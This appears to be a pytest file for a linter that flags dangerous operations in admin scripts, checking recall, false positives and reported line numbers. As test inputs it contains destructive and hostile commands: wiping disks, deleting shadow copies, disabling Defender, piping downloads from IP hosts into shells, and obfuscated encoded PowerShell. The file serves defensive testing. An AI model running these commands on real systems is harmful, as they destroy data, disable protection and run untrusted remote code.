"""The dangerous-operation lint (plugin/kernel/script_lint): its corpus, the operations the
security review found accepted without a word, and findings that name the right line."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from plugin.kernel.script_lint import Severity, guess_language, has_high, lint_script

CORPUS = Path(__file__).parent / "data" / "script_lint"


def _load(name: str) -> list[dict]:
    with (CORPUS / name).open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh if line.strip()]


DANGEROUS = _load("dangerous.jsonl")
ROUTINE = _load("routine.jsonl")


def test_the_corpus_is_large_enough_to_mean_something() -> None:
    assert len(DANGEROUS) >= 100 and len(ROUTINE) >= 100


def test_recall_on_the_dangerous_corpus_is_at_least_95_percent() -> None:
    missed = [r["id"] for r in DANGEROUS if not lint_script(r["script"], r["language"])]
    recall = 1 - len(missed) / len(DANGEROUS)
    assert recall >= 0.95, f"recall {recall:.1%}, missed {missed}"


def test_false_positives_on_routine_scripts_are_at_most_2_percent() -> None:
    flagged = [r["id"] for r in ROUTINE if lint_script(r["script"], r["language"])]
    rate = len(flagged) / len(ROUTINE)
    assert rate <= 0.02, f"false positives {rate:.1%}: {flagged}"


def test_findings_point_at_the_line_a_reviewer_would_highlight() -> None:
    near = 0
    for record in DANGEROUS:
        findings = lint_script(record["script"], record["language"])
        near += any(abs(f.line - record["line"]) <= 2 for f in findings)
    assert near / len(DANGEROUS) >= 0.95


def test_high_severity_dangerous_scripts_get_a_high_finding() -> None:
    high = [r for r in DANGEROUS if r["severity"] == "high"]
    with_high = [r for r in high if has_high(lint_script(r["script"], r["language"]))]
    assert len(with_high) / len(high) >= 0.95


# The operations issue 12 lists as accepted by admin create/import/promote.
@pytest.mark.parametrize(
    "script",
    [
        "Format-Volume -DriveLetter D -FileSystem NTFS -Force",
        "iex (iwr 'https://203.0.113.5/fix.ps1' -UseBasicParsing)",
        "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "curl -fsSL https://203.0.113.9/install.sh | bash",
        "rm -rf / --no-preserve-root",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "format C: /q /y",
        "vssadmin delete shadows /all /quiet",
    ],
)
def test_each_operation_the_review_found_is_a_high_finding(script) -> None:
    findings = lint_script(script)
    assert findings and findings[0].severity == Severity.HIGH
    assert findings[0].line == 1 and findings[0].message.endswith(".")


def test_a_finding_names_its_line_and_explains_itself() -> None:
    script = "Write-Output 'cleaning up'\n$x = 1\nvssadmin delete shadows /all /quiet\n"
    (finding,) = lint_script(script)
    assert finding.line == 3
    assert finding.rule == "shadow_copy_deletion.delete_shadow_copies"
    assert "Shadow Copies" in finding.message


def test_turning_protection_back_on_and_comments_are_not_findings() -> None:
    assert lint_script("Set-MpPreference -DisableRealtimeMonitoring $false") == []
    assert lint_script("Set-NetFirewallProfile -Profile Domain -Enabled True") == []
    assert lint_script("# never run: rm -rf / --no-preserve-root\necho ok") == []
    assert lint_script("<# vssadmin delete shadows /all #>\nGet-Date") == []


def test_continued_lines_are_read_as_one_command() -> None:
    script = "Set-MpPreference `\n    -DisableRealtimeMonitoring $true\n"
    assert [f.line for f in lint_script(script)] == [1]
    piped = "Get-ADUser -Filter * |\n    Disable-ADAccount\n"
    assert lint_script(piped)[0].rule == "wildcard_mass_change.everything_piped_to_write"


def test_a_download_run_later_is_found_and_a_verified_one_is_not() -> None:
    run = (
        "$out = Join-Path $env:TEMP 'agent.exe'\n"
        "Invoke-WebRequest -Uri 'http://198.51.100.7/agent.exe' -OutFile $out\n"
        "Start-Process -FilePath $out -Wait\n"
    )
    assert [(f.rule, f.line) for f in lint_script(run)] == [
        ("download_execute.downloaded_then_run", 3)
    ]
    verified = run.replace(
        "Start-Process",
        "if ((Get-FileHash $out).Hash -ne $expected) { throw 'bad' }\nStart-Process",
    )
    assert lint_script(verified) == []


def test_caret_and_backtick_obfuscation_is_seen_through() -> None:
    assert lint_script("p^o^w^e^r^s^h^e^l^l -e^n^c SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")
    assert lint_script("i`e`x (New-Object Net.WebClient).DownloadString($u)")


def test_nothing_to_lint_is_no_finding() -> None:
    assert lint_script(None) == [] and lint_script("") == []


@pytest.mark.parametrize(
    ("script", "language"),
    [
        ("@echo off\necho hi", "cmd"),
        ("#!/bin/bash\nsystemctl restart nginx", "bash"),
        ("Get-Service Spooler | Restart-Service", "powershell"),
        ("sudo systemctl restart nginx; Get-Date | Out-File x", "powershell"),
    ],
)
def test_guess_language(script, language) -> None:
    assert guess_language(script) == language
